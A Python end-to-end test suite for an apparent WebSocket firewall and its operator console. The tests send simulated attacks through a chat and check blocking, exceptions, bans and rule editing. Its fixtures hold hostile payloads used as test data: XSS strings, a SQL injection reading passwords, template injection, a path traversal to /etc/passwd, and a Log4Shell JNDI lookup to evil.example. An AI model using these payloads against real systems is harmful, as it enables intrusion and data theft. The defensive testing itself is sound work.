"""The console over a real node and a real chat: an attack is seen, understood, and acted on."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import websockets
from playwright.sync_api import Browser, Locator, Page, expect
from websockets.sync.client import connect

from e2e.conftest import Chat
from e2e.operator import PASSWORD, Operator
from e2e.test_scene import ATTACK, Person
from support.framewall import Framewall

SECOND = "<svg onload=alert(2)>"
RULE = """\
# our door
[[rule]]
id = "rce.password"
attack = "rce"
score = 5
pattern = '(?i)\\bopensesame\\b'
examples = { match = ["say opensesame"], pass = ["opensesames"] }
"""
PICTURES = os.environ.get("FRAMEWALL_PICTURES")
WALK = os.environ.get("FRAMEWALL_WALK")


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Framewall]:
    """Framewall in front of the chat, with its console."""
    environment = {"FRAMEWALL_CONSOLE_PASSWORD": PASSWORD}
    folder = tmp_path_factory.mktemp("console")
    with (
        Chat("4") as chat,
        Framewall(chat.url, folder, "--console", "127.0.0.1:0", env=environment) as framewall,
    ):
        yield framewall


def console_of(node: Framewall) -> str:
    return node.wait_for(r"console at (http://\S+)").group(1)


def send(node: Framewall, *messages: str, silence: float = 15) -> int | None:
    """A client that speaks Socket.IO by hand; the code that its socket was closed with, None after ``silence``."""
    with connect(f"ws://{node.address}/socket.io/?EIO=4&transport=websocket") as client:
        client.recv(5)
        client.send("40")
        client.recv(5)
        try:
            for message in messages:
                client.send(message)
            while True:
                client.recv(silence)
        except websockets.ConnectionClosed as closed:
            return closed.rcvd.code if closed.rcvd else None
        except TimeoutError:
            return None


def passes(node: Framewall, *messages: str) -> bool:
    """Whether a client that says this is still connected a moment later."""
    return send(node, *messages, silence=1) is None


def said(name: str, *values: object) -> str:
    return "42" + json.dumps([name, *values])


def test_the_scene_is_seen_live_excepted_and_banned(node: Framewall, chromium: Browser) -> None:
    """Mallory attacks; the operator sees it arrive, reads it, allows it, sees it pass, and bans who goes on."""
    operator = Operator.arrives(chromium, console_of(node))
    page = operator.goes("/attacks?show=hits")
    expect(page.get_by_role("heading", name="No attacks yet")).to_be_visible()
    page.get_by_role("button", name="Live").click()
    page.wait_for_timeout(700)

    chat = f"http://{node.address}/?transport=websocket"
    mallory, bob = Person.arrives(chromium, chat, "Mallory"), Person.arrives(chromium, chat, "Bob")
    mallory.says("Hello Bob")
    bob.sees("Hello Bob")
    mallory.says(ATTACK)
    mallory.sees("disconnected:")

    row = page.locator("tr[data-row]")
    expect(row).to_have_count(1)
    expect(row).to_contain_text("Blocked")
    row.get_by_text("Blocked").click()
    expect(page.locator("pre.request mark")).to_contain_text("onerror=alert(document.domain)")
    expect(page.locator(".step-name")).to_contain_text(["message", "socket.io", "json", "field", "match"])
    expect(page.locator(".talk")).to_contain_text("Hello Bob")
    if PICTURES:
        operator.draws(Path(PICTURES) / "console-hit.png")
    assert operator.finds_serious_barriers() == []

    page.get_by_role("button", name="This is a false positive").click()
    expect(page.locator("#exception")).to_contain_text("would have let through")
    page.get_by_label("Why").fill("<b>tests</b>")
    assert operator.finds_serious_barriers() == []
    page.get_by_role("button", name="Allow from now on").click()
    expect(page.locator("#exception")).to_contain_text("It holds from the next message on")
    assert passes(node, said("join", "Eve"), said("new message", ATTACK))
    expect(bob.page.locator("li img")).to_have_count(1)

    assert send(node, said("join", "Eve"), said("other", ATTACK)) == 1008
    operator.goes("/exceptions")
    expect(page.locator("tbody")).to_contain_text("<b>tests</b>")
    taken_back = page.get_by_role("button", name="Take back")
    expect(taken_back).to_have_count(2)
    taken_back.first.click()
    operator.confirms()
    expect(taken_back).to_have_count(1)

    operator.goes("/attacks?show=hits")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Ban 127.0.0.1").click()
    operator.confirms()
    expect(page.locator("#ban")).to_contain_text("Banned")
    bob.sees("disconnected:")
    with pytest.raises(websockets.InvalidStatus):
        send(node)
    page.get_by_role("button", name="Let it in again").click()
    expect(page.locator("#ban button", has_text="Ban 127.0.0.1")).to_be_visible()
    assert passes(node, said("join", "Eve"))

    for person in (mallory, bob):
        person.page.context.close()
    operator.goes("/audit")
    for what in ("exception", "ban"):
        expect(page.locator("main")).to_contain_text(what)
    assert [happened for happened in operator.happened if "/x" not in happened] == []


@pytest.fixture(scope="module")
def attacked(node: Framewall) -> Framewall:
    """The node after attacks of several kinds."""
    payloads = (
        ATTACK,
        "' UNION SELECT password FROM users --",
        "{{7*7}}{{config}}",
        "../../../../etc/passwd",
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "${jndi:ldap://evil.example/a}",
        f"\u202e{SECOND}\u200b",
    )
    for payload in payloads:
        hello = said("new message", "hello everybody")
        assert send(node, said("join", "Eve"), hello, said("new message", payload)) == 1008
    return node


PAGES = (
    "/", "/attacks", "/attacks?show=hits", "HIT", "/sessions", "SESSION", "/playground", "/rules", "/rules/xss.markup",
    "/rules/edit", "/rules/edit?rule=xss.markup", "/exceptions", "/routes", "/audit", "/settings",
)  # fmt: skip
PHONE = ("/", "/attacks?show=hits", "HIT", "/playground", "/rules", "/rules/edit", "/routes")


def test_every_page_works_in_both_lights_and_on_a_phone(attacked: Framewall, chromium: Browser) -> None:
    """With FRAMEWALL_WALK every page is drawn into that folder, in both lights and both widths."""
    url = console_of(attacked)
    barriers: dict[str, list[str]] = {}
    walks = [("dark", 1280, PAGES), ("light", 390, PHONE)]
    if WALK:
        walks = [(light, width, PAGES) for light in ("dark", "light") for width in (1280, 390)]
    for scheme, width, some in walks:
        operator = Operator.arrives(chromium, url, width=width, height=844, scheme=scheme)
        with connect(f"ws://{attacked.address}/socket.io/?EIO=4&transport=websocket") as live:
            live.recv(5)
            live.send("40")
            live.recv(5)
            live.send(said("join", "Eve"))
            places = {
                "HIT": operator.goes("/attacks?show=hits").locator("[data-open]").first.get_attribute("href"),
                "SESSION": operator.goes("/sessions").locator("[data-open]").first.get_attribute("href"),
            }
            for path in some:
                page = operator.goes(places.get(path) or path)
                expect(page.locator("main h1").first).to_be_visible()
                expect(page.locator("main")).not_to_contain_text("The node does not answer")
                assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), (
                    f"{path} at {width}"
                )
                if WALK:
                    page.wait_for_timeout(800)
                    name = re.sub(r"\W+", "-", path).strip("-") or "overview"
                    operator.draws(Path(WALK) / f"{name}-{scheme}-{width}.png", whole=True)
                barriers[f"{path} {scheme} {width}"] = operator.finds_serious_barriers()
        assert operator.happened == []
    assert [f"{where}: {each}" for where, found in barriers.items() for each in found] == []


def test_numbers_lead_to_what_is_behind_them(attacked: Framewall, chromium: Browser) -> None:
    operator = Operator.arrives(chromium, console_of(attacked))
    page = operator.goes("/?range=1h")
    expect(page.locator(".chart canvas")).to_be_visible()
    expect(page.locator(".stats")).to_contain_text("Live WebSockets")
    if PICTURES:
        page.wait_for_timeout(500)
        operator.draws(Path(PICTURES) / "console-overview.png")
    page.locator(".bars").get_by_role("link", name="sqli", exact=True).click()
    expect(page.locator("tr[data-row]")).to_have_count(1)
    expect(page.locator("tr[data-row]")).to_contain_text("UNION SELECT")
    page.locator("[data-search]").fill("class:xss -onerror")
    page.keyboard.press("Enter")
    expect(page.locator("tr[data-row]")).to_have_count(2)
    page.locator(".histogram a").last.click()
    expect(page.locator("tr[data-row]").first).to_be_visible()
    assert operator.happened == []


def test_times_are_told_in_the_viewers_zone(attacked: Framewall, chromium: Browser) -> None:
    shown = {}
    for zone in ("UTC", "Asia/Tokyo"):
        page = Operator.arrives(chromium, console_of(attacked), zone=zone).goes("/attacks?show=hits")
        time = page.locator("tr[data-row] time").last
        expect(time).to_have_attribute("title", re.compile("UTC$"))
        shown[zone] = re.findall(r"(\d\d):(\d\d):(\d\d)", time.inner_text())[0]
        assert ":".join(shown["UTC"]) in (time.get_attribute("title") or "")
    assert shown["UTC"][1:] == shown["Asia/Tokyo"][1:]
    assert (int(shown["Asia/Tokyo"][0]) - int(shown["UTC"][0])) % 24 == 9


def test_what_was_found_is_taken_away(attacked: Framewall, chromium: Browser) -> None:
    operator = Operator.arrives(chromium, console_of(attacked))
    page = operator.goes("/attacks?show=hits&q=class:sqli")
    page.get_by_text("Export").click()
    with page.expect_download() as download:
        page.get_by_role("link", name="JSON").click()
    (event,) = json.loads(Path(download.value.path()).read_text())
    assert event["attacks"] == ["sqli"]
    page.get_by_text("Save", exact=True).click()
    page.get_by_label("Name of this view").fill("SQL")
    page.get_by_role("button", name="Save view").click()
    expect(page.get_by_role("link", name="SQL", exact=True)).to_be_visible()
    page.locator("[data-open]").first.click()
    page.get_by_role("tab", name="Test vector").click()
    vector = json.loads(page.locator("#copy-vector").get_attribute("data-plain") or "")
    assert vector["data"] == said("new message", "' UNION SELECT password FROM users --")
    page.get_by_role("link", name="Open it in the playground").click()
    expect(page.locator(".judged.block")).to_contain_text("sqli")
    page.locator("#data").fill('42["new message","good morning"]')
    expect(page.locator(".judged.pass")).to_be_visible()
    assert operator.happened == []


def test_a_node_is_run_from_the_console(attacked: Framewall, chromium: Browser) -> None:
    operator = Operator.arrives(chromium, console_of(attacked))
    page = operator.goes("/routes")
    page.get_by_role("button", name=re.compile("^monitor")).click()
    operator.confirms()
    expect(page.get_by_role("button", name=re.compile("^monitor"))).to_have_attribute("aria-pressed", "true")
    assert passes(attacked, said("join", "Eve"), said("new message", ATTACK))
    operator.goes("/routes")
    expect(page.locator(".preview")).to_contain_text("would have stopped 1 message of 1 client")
    page.get_by_role("button", name="Back to it").click()
    expect(page.get_by_role("button", name=re.compile("^block"))).to_have_attribute("aria-pressed", "true")

    operator.goes("/rules/xss.markup")
    page.get_by_role("switch", name="xss.markup takes part").click()
    operator.confirms()
    expect(page.get_by_role("switch", name="xss.markup takes part")).to_have_attribute(
        "aria-checked", "false"
    )

    with connect(f"ws://{attacked.address}/socket.io/?EIO=4&transport=websocket") as live:
        live.recv(5)
        operator.goes("/sessions")
        expect(page.locator("tr[data-row]")).to_have_count(1)
        live.send("3")
        live.send("3")
        operator.goes(str(page.locator("[data-open]").first.get_attribute("href")))
        expect(fact(page, "Who pings")).to_have_text("the server")
        expect(fact(page, "Its last heartbeat")).to_have_text(
            re.compile(r"^\d+ s ago, \d+\.\d s after the one before$")
        )
        expect(fact(page, "The server's")).to_have_text("none seen")
        operator.goes("/sessions")
        page.get_by_role("button", name="Drop").click()
        operator.confirms()
        with pytest.raises(websockets.ConnectionClosed) as closed:
            live.recv(5)
        assert closed.value.rcvd
        assert closed.value.rcvd.code == 1008
    expect(page.get_by_role("heading", name="Nobody is connected")).to_be_visible()
    operator.goes("/audit")
    for what in ("mode", "rule", "session"):
        expect(page.locator("main")).to_contain_text(what)
    assert operator.happened == []


def fact(page: Page, name: str) -> Locator:
    """What stands beside a name among the facts."""
    return page.locator(".facts div").filter(has_text=name).locator("dd")


def test_a_rule_is_written_tried_used_changed_and_taken_out(node: Framewall, chromium: Browser) -> None:
    operator = Operator.arrives(chromium, console_of(node))
    greeting = said("new message", "say opensesame <3")
    assert passes(node, said("join", "Eve"), greeting)
    page = operator.goes("/rules")
    page.get_by_role("link", name="Write a rule").click()
    area = page.locator("#rule-text")
    area.fill(RULE.replace("score = 5", "score = high"))
    expect(page.locator("#tried")).to_contain_text("not TOML")
    area.fill(RULE.replace("score = 5", "score = 5000"))
    expect(page.locator("#tried")).to_contain_text("score is a whole number from 0 to 1000")
    page.get_by_role("link", name="Line 5").click()
    assert page.evaluate("getSelection().toString()") == "score = 5000"
    page.get_by_role("button", name="Save and use").click()
    expect(page.locator("#tried")).to_contain_text("It cannot be used so")
    page.get_by_label("A text to look in").fill('{"a": "opensesame"}')
    area.fill(RULE)
    expect(page.locator("#tried")).to_contain_text("It can be used")
    expect(page.locator("#tried .match")).to_have_text("opensesame")
    if WALK:
        operator.draws(Path(WALK) / "rule-written.png", whole=True)
    assert operator.finds_serious_barriers() == []
    page.get_by_label("Why").fill("<b>demo</b>")
    page.get_by_role("button", name="Save and use").click()
    expect(page.get_by_role("heading", name="rce.password")).to_be_visible()
    expect(page.locator("main")).to_contain_text("<b>demo</b>")
    assert send(node, said("join", "Eve"), greeting) == 1008

    operator.goes("/playground")
    page.locator("#data").fill(greeting)
    expect(page.locator(".judged.block")).to_contain_text("rce.password")
    page.get_by_label("Judged as").select_option("")
    expect(page.locator(".judged.pass")).to_contain_text("judged as shipped")

    operator.goes("/attacks?show=hits&q=rule:rce.password")
    page.locator("[data-open]").first.click()
    page.locator(".why").get_by_role("link", name="rce.password").click()
    page.get_by_role("link", name="Edit").click()
    area.fill(area.input_value().replace("opensesame", "closesesame").replace("rce.password", "rce.word"))
    page.get_by_role("button", name="Save and use").click()
    expect(page.get_by_role("heading", name="rce.word")).to_be_visible()
    assert passes(node, said("join", "Eve"), greeting)
    operator.goes("/rules")
    expect(page.locator("#own tr[data-row]")).to_have_count(1)
    page.locator("#own").get_by_role("switch").click()
    operator.confirms()
    expect(page.locator("#own").get_by_role("switch")).to_have_attribute("aria-checked", "false")
    assert passes(node, said("join", "Eve"), said("new message", "closesesame"))
    if WALK:
        operator.draws(Path(WALK) / "rules-own.png")
    page.locator("#own [data-open]").click()
    page.get_by_role("button", name="Remove").click()
    operator.confirms()
    expect(page.locator("#own")).to_contain_text("None yet")

    operator.goes("/rules/xss.markup")
    page.get_by_role("link", name="Copy as my own").click()
    expect(page.locator("#tried")).to_contain_text("takes the place of the built-in")
    area.fill(area.input_value().replace("score = 5", "score = 1"))
    page.get_by_role("button", name="Save and use").click()
    expect(page.locator(".hit-side")).to_contain_text("In place of")
    expect(page.locator(".hit-side")).to_contain_text("Score1")
    page.get_by_role("button", name="Remove").click()
    operator.confirms()
    expect(page.locator("#own")).to_contain_text("None yet")
    operator.goes("/audit")
    page.locator("summary", has_text="rewritten").first.click()
    expect(page.locator("details[open] pre").first).to_contain_text("[[rule]]")
    expect(page.locator("main")).to_contain_text("closesesame")
    if WALK:
        operator.draws(Path(WALK) / "audit-rules.png", whole=True)
    assert operator.finds_serious_barriers() == []
    assert operator.happened == []


def test_keys_are_enough(attacked: Framewall, chromium: Browser) -> None:
    operator = Operator.arrives(chromium, console_of(attacked))
    page = operator.page
    page.keyboard.press("g")
    page.keyboard.press("a")
    page.wait_for_url("**/attacks")
    page.keyboard.press("?")
    expect(page.get_by_role("heading", name="Keys")).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("/")
    page.keyboard.type("class:ssti")
    page.keyboard.press("Enter")
    expect(page.locator("tr[data-row]")).to_have_count(1)
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    expect(page.locator("h1")).to_contain_text("Template injection")
    page.keyboard.press("t")
    assert page.evaluate("document.documentElement.dataset.theme") == "light"
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "light"
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("button", name="Sign in")).to_be_visible()
    assert operator.happened == []
